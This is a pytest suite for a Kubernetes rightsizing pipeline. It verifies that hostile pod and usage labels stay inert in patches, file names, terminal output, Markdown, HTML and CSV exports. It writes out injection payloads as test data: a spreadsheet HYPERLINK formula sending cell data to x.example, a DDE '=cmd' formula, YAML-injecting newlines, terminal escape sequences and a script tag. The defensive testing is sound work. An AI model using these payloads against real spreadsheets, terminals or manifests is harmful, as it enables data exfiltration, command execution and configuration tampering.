"""Labels are written by whoever can label a pod or write a usage file; they must not reach a
patch, a file name, a terminal, Markdown, HTML or a spreadsheet as anything but inert text.

The file commands run as real subprocesses; the pipeline runs with `dagster.materialize` over a
real OpenMetrics export with hostile labels (`tests/fixtures/hostile_labels.om.xz`, written by
`write_hostile_fleet` below); properties are checked with Hypothesis on random labels.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import lzma
import re
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import dagster as dg
import duckdb
import numpy as np
import polars as pl
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from capacity_pipelines.common.files import PublishError, publish_files
from capacity_pipelines.common.formatting import (
    FORMULA_PREFIXES,
    markdown_table,
    safe_text,
    spreadsheet_csv,
)
from capacity_pipelines.recommendations.cli import format_line
from capacity_pipelines.reporting.model import ReportTable, Section, WeeklyReport
from capacity_pipelines.reporting.publish import publish_report
from capacity_pipelines.reporting.render import render_html, render_markdown
from capacity_pipelines.reporting.weeks import ReportWeek
from capacity_pipelines.rightsizing.outputs import (
    build_exports,
    publish_exports,
    ranked_markdown,
    workload_patches,
)
from capacity_pipelines.rightsizing.workloads import (
    PATCHABLE_KINDS,
    Workload,
    label_problems,
    patch_file_name,
)
from tests.test_publish import capacity, container_usage, current_spec

FIXTURE = Path(__file__).parent / "fixtures" / "hostile_labels.om.xz"
INJECTED = "agents/coder-\u2026\nmetadata:\n  name: evil\nx: /coder"
HYPERLINK = '=HYPERLINK("http://x.example/?"&A{},"ok")'
# A DNS-1123 subdomain of the maximum length (253): four labels of 63, 63, 63 and 61.
LONGEST_WORKLOAD = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 60]) + "{}"
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
UNESCAPED_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")


def printable_lines(text: str) -> bool:
    """Every line holds only printable characters (no ESC, no C1, no bidi override, ...)."""
    return all(line.isprintable() for line in text.split("\n"))


def spreadsheet_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def no_formula_cells(rows: list[list[str]]) -> bool:
    return not [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def rightsize(tmp_path: Path, ids: tuple[str, ...]) -> subprocess.CompletedProcess:
    usage, spec = tmp_path / "u.parquet", tmp_path / "s.parquet"
    container_usage(ids).write_parquet(usage)
    current_spec(ids).write_parquet(spec)
    return capacity(
        "rightsize", "--usage", str(usage), "--spec", str(spec),
        "--out", str(tmp_path / "out" / "r.parquet"), "--exports", str(tmp_path / "exports"),
    )  # fmt: skip


# -- the file command --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ids", "message"),
    [
        # a newline in the workload would have put `metadata: {name: evil}` into the patch
        (("shop/api/app", INJECTED), "row 193: container_id 'agents/coder-\u2026\\nmetadata:"),
        # four spreadsheet formulas with a '/' were all workload x.example, one shared file
        (tuple(HYPERLINK.format(i) for i in range(4)), "is not namespace/workload/container"),
        # a 300-character workload failed the whole fleet with ENAMETOOLONG
        (("shop/" + "w" * 300 + "/app",), "(300 characters) is not a DNS-1123 subdomain"),
        (("team\x1b[31m/api/app",), "namespace 'team\\x1b[31m' is not a DNS-1123 label"),
        (("shop/api/App",), "container 'App' is not a DNS-1123 label"),
    ],
    ids=["newline", "extra-slash", "300-chars", "escape", "uppercase"],
)
def test_rightsize_refuses_a_bad_label_in_one_line_before_writing_anything(
    tmp_path: Path, ids: tuple[str, ...], message: str
):
    done = rightsize(tmp_path, ids)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.count("\n") == 1 and printable_lines(done.stderr.rstrip("\n"))
    assert "u.parquet" in done.stderr and message in done.stderr
    assert not (tmp_path / "out").exists() and not (tmp_path / "exports").exists()


def test_long_valid_names_get_short_distinct_patch_files(tmp_path: Path):
    ids = tuple(f"shop/{LONGEST_WORKLOAD.format(k)}/app" for k in ("x", "y"))
    done = rightsize(tmp_path, ids)
    assert done.returncode == 0, done.stderr
    patches = sorted((tmp_path / "exports" / "patches").iterdir())
    assert len(patches) == 2 and all(len(p.name.encode()) <= 255 for p in patches)
    workloads = set()
    for patch in patches:
        text = patch.read_text()
        assert yaml.safe_load(text)["spec"]["template"]["spec"]["containers"][0]["name"] == "app"
        workloads.add(re.search(r"kubectl patch deployment (\S+) -n shop ", text).group(1))
    assert workloads == {LONGEST_WORKLOAD.format("x"), LONGEST_WORKLOAD.format("y")}


# -- patches from a recommendation frame -------------------------------------------------------


def recommendation(namespace, workload, container, **extra) -> dict:
    """One recommendation row that changes the CPU and memory requests (so it gets a patch)."""
    return {
        "container_id": f"{namespace}/{workload}/{container}",
        "namespace": namespace,
        "workload": workload,
        "container": container,
        "status": "ok",
        "kind": "save",
        "rank": 1,
        "cpu_request_quantity": "250m",
        "memory_request_quantity": "512Mi",
        "cpu_limit_quantity": None,
        "memory_limit_quantity": "512Mi",
        "current_cpu_request": 2.0,
        "current_memory_request": 2.0 * 1024**3,
        "current_cpu_limit": None,
        "current_memory_limit": 2.0 * 1024**3,
        "confidence": 0.9,
        "monthly_saving_usd": 42.0,
        "rationale": "14.0 d of history",
    } | extra


def recommendations(rows: list[dict]) -> pl.DataFrame:
    return pl.DataFrame(rows, infer_schema_length=None).with_columns(
        pl.col("cpu_limit_quantity").cast(pl.String),
        pl.col("current_cpu_limit").cast(pl.Float64),
    )


def test_kubectl_patches_the_workloads_kind_and_says_when_it_is_assumed():
    frame = recommendations(
        [
            recommendation("shop", "db", "postgres", workload_kind="StatefulSet"),
            recommendation("shop", "agent", "log", workload_kind="DaemonSet"),
            recommendation("shop", "api", "app", workload_kind=None),
            recommendation("shop", "nightly", "etl", workload_kind="CronJob"),
            recommendation("shop", "x", "y", workload_kind="Deployment\nmetadata: {name: evil}"),
        ]
    )
    patches = workload_patches(frame)
    by_name = {w.name: p for w, p in patches.by_workload().items()}
    assert set(by_name) == {"db", "agent", "api"}
    assert "# apply after review: kubectl patch statefulset db -n shop --type strategic" in (
        by_name["db"].text
    )
    assert by_name["db"].file_name == "shop__db__statefulset.yaml"
    assert "kubectl patch daemonset agent -n shop" in by_name["agent"].text
    assert "kubectl patch deployment api -n shop" in by_name["api"].text
    assert "assumed Deployment" in by_name["api"].text
    assert "assumed" not in by_name["db"].text
    refused = {r.workload: r.reason for r in patches.refused}
    assert "not one `kubectl patch` changes in place" in refused["shop/nightly (CronJob)"]
    assert "shop/x (Deployment\\nmetadata: {name: evil})" in refused
    # without the column at all: Deployment, and the patch says so
    untyped = workload_patches(frame.drop("workload_kind").head(1))
    [patch] = untyped.patches
    assert patch.workload == Workload("shop", "db") and "assumed Deployment" in patch.text


def test_one_bad_label_costs_only_its_own_workloads_patch():
    frame = recommendations(
        [
            recommendation("shop", "api", "app"),
            recommendation("shop", "api", "sidecar\nmetadata:"),  # refuses all of shop/api
            recommendation("shop", "db", "postgres"),
            recommendation("", "x.example", '?"&A1,"ok")'),
        ]
    )
    patches = workload_patches(frame)
    assert [p.file_name for p in patches.patches] == ["shop__db.yaml"]
    refused = {r.workload: r.reason for r in patches.refused}
    assert set(refused) == {"shop/api", "/x.example"}
    assert "container 'sidecar\\nmetadata:' is not a DNS-1123 label" in refused["shop/api"]
    assert refused["/x.example"].startswith("namespace is empty")


# -- terminals ---------------------------------------------------------------------------------


def test_recs_list_and_show_print_label_escapes_as_text(tmp_path: Path):
    from tests.test_recommendations import DAY1, run_day, write_inputs

    warehouse = tmp_path / "wh.duckdb"
    write_inputs(warehouse, DAY1)
    hostile = "plan\x1b]8;;http://evil.example\x07ner\x1b[2J\u202e"
    with duckdb.connect(str(warehouse)) as con:
        con.execute(
            "UPDATE container_rightsizing SET workload = ?, container = ? "
            "WHERE container = 'planner'",
            [hostile, hostile],
        )
    [planner] = [
        r["recommendation_id"]
        for r in run_day(warehouse, DAY1).iter_rows(named=True)
        if "plan" in r["target"]
    ]
    env = ("--warehouse", str(warehouse), "--snapshot", str(tmp_path / "snap.duckdb"))
    comment = capacity(
        "recs", *env, "comment", planner, "--by", "eve\x1b]0;owned\x07",
        "-m", "line one\nline two\r\x9b31m",
    )  # fmt: skip
    assert comment.returncode == 0 and printable_lines(comment.stdout), comment.stderr
    listing = capacity("recs", *env, "list")
    shown = capacity("recs", *env, "show", planner)
    for done in (listing, shown):
        assert done.returncode == 0, done.stderr
        assert printable_lines(done.stdout), [c for c in done.stdout if not c.isprintable()]
        assert "plan\\x1b]8;;http://evil.example\\x07ner\\x1b[2J\\u202e" in done.stdout
    assert "eve\\x1b]0;owned\\x07: line one\\nline two\\r\\x9b31m" in shown.stdout


# -- spreadsheets ------------------------------------------------------------------------------


def test_token_cost_report_csvs_neutralise_formulas_and_json_keeps_them(tmp_path: Path):
    agents = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "planner"]
    ts = [dt.datetime(2025, 9, 1, tzinfo=dt.UTC) + dt.timedelta(minutes=5 * i) for i in range(24)]
    usage = tmp_path / "usage.parquet"
    pl.DataFrame(
        {
            "ts": ts,
            "provider": ["openai"] * 24,
            "model": ["gpt-4o"] * 12 + ["=unknown-model()"] * 12,
            "agent": [agents[i % len(agents)] for i in range(24)],
            "input_tokens": [1_000] * 24,
            "output_tokens": [200] * 24,
        }
    ).write_parquet(usage)
    report = tmp_path / "report"
    done = capacity(
        "token-cost", "--usage", str(usage), "--out", str(tmp_path / "c.parquet"),
        "--report-dir", str(report),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    by_agent = spreadsheet_cells((report / "spend_by_agent.csv").read_bytes())
    assert no_formula_cells(by_agent)
    agent_column = [row[0] for row in by_agent[1:]]
    assert sorted(agent_column) == sorted(
        ["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'+1+1", "'-2+3", "'\tTAB", "planner"]
    )
    costs = [float(row[1]) for row in by_agent[1:]]  # numbers stay numbers
    assert all(c >= 0 for c in costs)
    for csv_file in report.glob("*.csv"):
        assert no_formula_cells(spreadsheet_cells(csv_file.read_bytes())), csv_file.name
    assert pl.read_parquet(tmp_path / "c.parquet")["agent"].to_list()[0] == agents[0]


def hostile_report(values: list[str]) -> WeeklyReport:
    """A report whose one table and bullets hold `values` as label text."""
    frame = pl.DataFrame({"service": values, "saving_usd": [float(i) for i in range(len(values))]})
    section = Section(
        "summary", "Summary", bullets=[f"watch {v}" for v in values],
        tables=[ReportTable("services", "Services", frame, frame)],
    )  # fmt: skip
    return WeeklyReport(
        week=ReportWeek.from_partition_key("2026-10-19"),
        generated_at=dt.datetime(2026, 10, 26, tzinfo=dt.UTC),
        source="test",
        sections=[section],
        summary={"headline": "test"},
    )


def test_weekly_report_csvs_neutralise_formulas_in_the_week_and_latest(tmp_path: Path):
    values = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "@cmd", "-1", "ok"]
    published = publish_report(hostile_report(values), tmp_path / "reports")
    latest = tmp_path / "reports" / "latest"
    for folder in (published.week_dir / "csv", latest / "capacity_report_csv"):
        rows = spreadsheet_cells((folder / "services.csv").read_bytes())
        assert [r[0] for r in rows[1:]] == ["'" + values[0], "'@cmd", "-1", "ok"]
        assert [float(r[1]) for r in rows[1:]] == [0.0, 1.0, 2.0, 3.0]
    document = json.loads(published.json.read_text())
    assert document["sections"][0]["tables"]["services"][0]["service"] == values[0]


# -- properties --------------------------------------------------------------------------------

VALID_LABEL = st.from_regex(r"[a-z0-9]([-a-z0-9]{0,14}[a-z0-9])?", fullmatch=True)
HOSTILE_PIECES = st.sampled_from(
    ["\n", "\r", "\x1b[31m", "\x07", "\x85", "\u2028", "\u202e", "\x00", "\t", "|", "/", "..",
     '"', "'", "`", "=", "@", "+", "-", "<script>", "[x](y)", "\\", "\u00e9", "\U0001f600", " "]
)  # fmt: skip
HOSTILE_TEXT = st.lists(st.one_of(HOSTILE_PIECES, st.text(max_size=5)), max_size=8).map("".join)
LABELS = st.one_of(
    VALID_LABEL,
    HOSTILE_TEXT,
    st.text(min_size=300, max_size=320),
    st.sampled_from(["", ".", "..", "a/b", "-1", "=1+1", HYPERLINK.format(1)]),
)
KINDS = st.one_of(st.none(), st.sampled_from([*PATCHABLE_KINDS, "CronJob", "Job"]), HOSTILE_TEXT)
# Derandomized: the same examples on every run, so CI cannot fail on a draw the previous run
# did not make; no example database written into the checkout.
PROPERTY = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@PROPERTY
@given(
    st.lists(
        st.tuples(st.one_of(VALID_LABEL, LABELS), st.one_of(VALID_LABEL, LABELS), LABELS, KINDS),
        min_size=1,
        max_size=8,
    )
)
def test_patches_parse_to_exactly_the_containers_resources(rows):
    frame = recommendations([recommendation(n, w, c, workload_kind=k) for n, w, c, k in rows])
    patches = workload_patches(frame)
    workloads: dict[Workload, list[str]] = {}
    for n, w, c, k in rows:
        workloads.setdefault(Workload(n, w, k or "Deployment"), []).append(c)
    patchable = {
        w: sorted(containers)
        for w, containers in workloads.items()
        if w.kind in PATCHABLE_KINDS
        and len(set(containers)) == len(containers)
        and not any(label_problems(w.namespace, w.name, c) for c in containers)
    }
    assert set(patches.by_workload()) == set(patchable)
    assert len(patches.refused) == len(workloads) - len(patchable)
    names = [p.file_name for p in patches.patches]
    assert len(names) == len(set(names))  # distinct workloads, distinct files
    for patch in patches.patches:
        w = patch.workload
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*\.yaml", patch.file_name)
        assert len(patch.file_name.encode()) <= 255
        document = yaml.safe_load(patch.text)
        assert list(document) == ["spec"] and list(document["spec"]) == ["template"]
        assert list(document["spec"]["template"]) == ["spec"]
        assert list(document["spec"]["template"]["spec"]) == ["containers"]
        containers = document["spec"]["template"]["spec"]["containers"]
        assert [c["name"] for c in containers] == patchable[w]
        assert all(list(c) == ["name", "resources"] for c in containers)
        command = f"kubectl patch {PATCHABLE_KINDS[w.kind]} {w.name} -n {w.namespace} "
        assert f"# apply after review: {command}--type strategic --patch-file <this file>" in (
            patch.text.splitlines()
        )
        assert printable_lines(patch.text)
    for refused in patches.refused:
        assert printable_lines(refused.workload + refused.reason)


# A kind that is never empty, built rather than filtered (filtering starves Hypothesis).
SOME_KIND = st.one_of(
    st.sampled_from(["Deployment", *PATCHABLE_KINDS, "CronJob", "Job"]),
    HOSTILE_TEXT.map(lambda text: text or "Deployment"),
)


@PROPERTY
@given(st.lists(st.tuples(LABELS, LABELS, SOME_KIND), unique=True, min_size=2, max_size=10))
def test_distinct_workloads_never_share_a_file_and_no_name_leaves_the_folder(keys):
    names = [patch_file_name(Workload(n, w, k)) for n, w, k in keys]
    assert len(set(names)) == len(names)
    for name in names:
        assert "/" not in name and name not in (".", "..") and not name.startswith(".")
        assert len(name.encode()) <= 255 and name.isprintable()


@PROPERTY
@given(st.lists(st.one_of(LABELS, st.lists(LABELS, min_size=1, max_size=3).map("/".join)),
                min_size=1, max_size=4))  # fmt: skip
def test_published_paths_stay_inside_their_folder(names):
    with tempfile.TemporaryDirectory() as root:
        folder = Path(root) / "exports"
        try:
            written = publish_files(folder, {n: "x" for n in names}, owner="p")
        except PublishError:
            written = []
        for path in written:
            assert path.resolve().is_relative_to(folder.resolve())
        for path in Path(root).rglob("*"):
            assert path == folder or path.is_relative_to(folder)


@PROPERTY
@given(st.lists(LABELS, min_size=1, max_size=6))
def test_no_control_character_reaches_a_terminal_or_markdown(values):
    for value in values:
        assert safe_text(value).isprintable() and safe_text(value, markdown=True).isprintable()
        assert not re.search(r"[<>`]", safe_text(value, markdown=True).replace("\\`", ""))
    frame = pl.DataFrame({"label": values, "n": list(range(len(values)))})
    table = markdown_table(frame, rows=None)
    lines = table.split("\n")
    assert len(lines) == len(values) + 2 and printable_lines(table)
    assert all(len(UNESCAPED_PIPE.findall(line)) == 3 for line in lines)
    ranked = ranked_markdown(
        recommendations([recommendation(v, v, v, rationale=v) for v in values]).with_columns(
            pl.int_range(1, len(values) + 1).alias("rank")
        )
    )
    assert printable_lines(ranked)
    assert all(len(UNESCAPED_PIPE.findall(line)) == 9 for line in ranked.split("\n"))
    row = {
        "rank": 1, "recommendation_id": "abc", "kind": values[0], "target": values[-1],
        "team": values[0], "review_status": "pending", "review_note": values[-1],
        "outcome": values[0], "status": "open", "impact_usd_month": 1.0, "slo_impact": values[0],
        "action": values[-1], "effort_score": 1.0, "risk_score": 0.1, "confidence": 0.5,
        "priority": 1.0, "roi": 1.0, "evidence": values[0],
    }  # fmt: skip
    assert len(format_line(row).split("\n")) == 4 and printable_lines(format_line(row))


@PROPERTY
@given(st.lists(LABELS, min_size=1, max_size=6))
def test_no_csv_cell_begins_with_a_formula_character(values):
    frame = pl.DataFrame({"label": values, "n": [-1.5 * i for i in range(len(values))]})
    rows = spreadsheet_cells(spreadsheet_csv(frame))
    assert no_formula_cells(rows)
    assert [r[0] for r in rows[1:]] == [
        "'" + v if v.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(v) else v
        for v in values
    ]
    assert [float(r[1]) for r in rows[1:]] == frame["n"].to_list()


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)


@PROPERTY
@given(st.lists(LABELS, min_size=1, max_size=5))
def test_the_weekly_reports_html_and_markdown_keep_labels_as_text(values):
    report = hostile_report(values)
    parser = _Tags()
    parser.feed(render_html(report))
    assert "script" not in parser.tags
    assert parser.tags.count("td") == 2 * len(values) and parser.tags.count("li") >= len(values)
    assert printable_lines(render_markdown(report))


# -- the pipeline ------------------------------------------------------------------------------

HOSTILE_CONTAINERS = [  # (namespace, pod, container)
    ("shop", "api-7d9f8b6c5-bx2kq", "app"),  # valid: gets a patch
    ("shop", "db-0", "postgres"),  # valid StatefulSet-style pod: gets a patch
    ("shop", "web-7d9f8b6c5-hx2kq", HYPERLINK.format(1)),
    ("team\x1b[31mred", "cache-7d9f8b6c5-bx2kq", "redis"),
    ("shop", "evil\nmetadata:\n  name: evil\nx: -7d9f8b6c5-bx2kq", "app"),
    ("shop", "w" * 300 + "-7d9f8b6c5-bx2kq", "app"),
    ("shop", "ui-7d9f8b6c5-bx2kq", "<script>alert(1)</script>|x"),
]
FLEET_START = dt.datetime(2026, 9, 28, tzinfo=dt.UTC)


def _om_escape(value: str) -> str:
    return value.replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"')


def write_hostile_fleet(path: Path, days: int = 2, interval_s: int = 300) -> None:
    """The fixture: CPU counters, working sets and CPU requests of HOSTILE_CONTAINERS, xz."""
    ts = int(FLEET_START.timestamp()) + np.arange(days * 86_400 // interval_s) * interval_s
    load = 0.2 + 0.1 * np.sin(2 * np.pi * (ts % 86_400) / 86_400)
    lines = []
    for family, kind in (
        ("container_cpu_usage_seconds", "counter"),
        ("container_memory_working_set_bytes", "gauge"),
        ("kube_pod_container_resource_requests", "gauge"),
    ):
        lines.append(f"# TYPE {family} {kind}")
        for k, (namespace, pod, container) in enumerate(HOSTILE_CONTAINERS):
            pairs = (("namespace", namespace), ("pod", pod), ("container", container))
            labels = ",".join(f'{name}="{_om_escape(value)}"' for name, value in pairs)
            level = load * (1 + 0.2 * k)
            if kind == "counter":
                values = np.cumsum(level * interval_s)
                samples = zip(ts, values, strict=True)
                lines += [f"{family}_total{{{labels}}} {v:.1f} {t}" for t, v in samples]
            elif family == "container_memory_working_set_bytes":
                lines += [f"{family}{{{labels}}} {(300 + 20 * k) * 2**20} {t}" for t in ts]
            else:
                lines += [f'{family}{{{labels},resource="cpu",unit="core"}} 2 {t}' for t in ts]
    lines.append("# EOF")
    path.write_bytes(lzma.compress(("\n".join(lines) + "\n").encode("utf-8"), preset=9))


def test_the_fixture_is_what_write_hostile_fleet_writes(tmp_path: Path):
    fresh = tmp_path / "fleet.om.xz"
    write_hostile_fleet(fresh)
    assert lzma.decompress(fresh.read_bytes()) == lzma.decompress(FIXTURE.read_bytes())


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    from capacity_pipelines.definitions import defs as build_defs
    from capacity_pipelines.rightsizing.tables import RIGHTSIZING_TABLE
    from tests.pipeline import pipeline_resources

    root = tmp_path_factory.mktemp("hostile")
    exports = root / "reports" / "latest" / "rightsizing"
    # Yesterday's publication: a patch and a file of a workload that has since gone, the
    # manifest that lists them, and a user's notes.
    yesterday = build_exports(recommendations([recommendation("shop", "gone", "app")]))
    yesterday.files["old-extra.csv"] = "a,b\n"
    publish_exports(yesterday, exports)
    (exports / "NOTES.md").write_text("rollout notes\n")
    resources = pipeline_resources(root, [FIXTURE])
    assets = list(build_defs().assets)
    tags = {
        "dagster/asset_partition_range_start": "2026-09-28",
        "dagster/asset_partition_range_end": "2026-09-29",
    }
    with dg.DagsterInstance.ephemeral() as instance:
        ingest = dg.materialize(
            assets, selection=["container_usage"], resources=resources, instance=instance,
            tags=tags,
        )  # fmt: skip
        assert ingest.success
        # rightsizing as of the end of the last day (a ranged run would compute every day)
        result = dg.materialize(
            assets, selection=["container_rightsizing"], resources=resources, instance=instance,
            partition_key=tags["dagster/asset_partition_range_end"],
        )  # fmt: skip
    with duckdb.connect(str(root / "wh.duckdb"), read_only=True) as con:
        table = con.execute(f"SELECT * FROM {RIGHTSIZING_TABLE.name}").pl()
    return result, exports, table


def test_hostile_labels_through_the_pipeline_cost_only_their_own_patches(hostile_run):
    result, exports, table = hostile_run
    assert result.success
    assert table.height == len(HOSTILE_CONTAINERS)  # every container rightsized, none lost
    patches = sorted(p.name for p in (exports / "patches").iterdir())
    assert patches == ["shop__api.yaml", "shop__db.yaml"]  # "shop__gone.yaml" went stale
    for name in patches:
        document = yaml.safe_load((exports / "patches" / name).read_text())
        assert list(document) == ["spec"]
        [container] = document["spec"]["template"]["spec"]["containers"]
        assert list(container) == ["name", "resources"]
    assert not (exports / "old-extra.csv").exists()
    assert (exports / "NOTES.md").read_text() == "rollout notes\n"
    [check] = [
        e for e in result.get_asset_check_evaluations()
        if e.check_name == "patches_for_every_workload"
    ]  # fmt: skip
    assert not check.passed and check.severity == dg.AssetCheckSeverity.WARN
    assert check.description.startswith("5 workloads got no patch")
    assert "team\\x1b[31mred/cache" in check.description and printable_lines(check.description)
    materialization = result.asset_materializations_for_node("container_rightsizing")[-1]
    refused = materialization.metadata["refused_patches"].value
    assert len(refused) == 5 and any("HYPERLINK" in r["reason"] for r in refused)


def test_hostile_labels_through_the_pipeline_are_inert_in_every_export(hostile_run):
    result, exports, _ = hostile_run
    markdown = (exports / "rightsizing.md").read_text()
    assert printable_lines(markdown)
    lines = markdown.rstrip("\n").split("\n")
    assert len(lines) == len(HOSTILE_CONTAINERS) + 2
    assert all(len(UNESCAPED_PIPE.findall(line)) == 9 for line in lines)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in markdown
    rows = spreadsheet_cells((exports / "rightsizing.csv").read_bytes())
    assert no_formula_cells(rows)
    header = rows[0]
    containers = [r[header.index("container")] for r in rows[1:]]
    assert "'" + HYPERLINK.format(1) in containers
    raw = json.loads((exports / "rightsizing.json").read_text())
    assert HYPERLINK.format(1) in [r["container"] for r in raw]
    materialization = result.asset_materializations_for_node("container_rightsizing")[-1]
    assert printable_lines(materialization.metadata["top"].value)
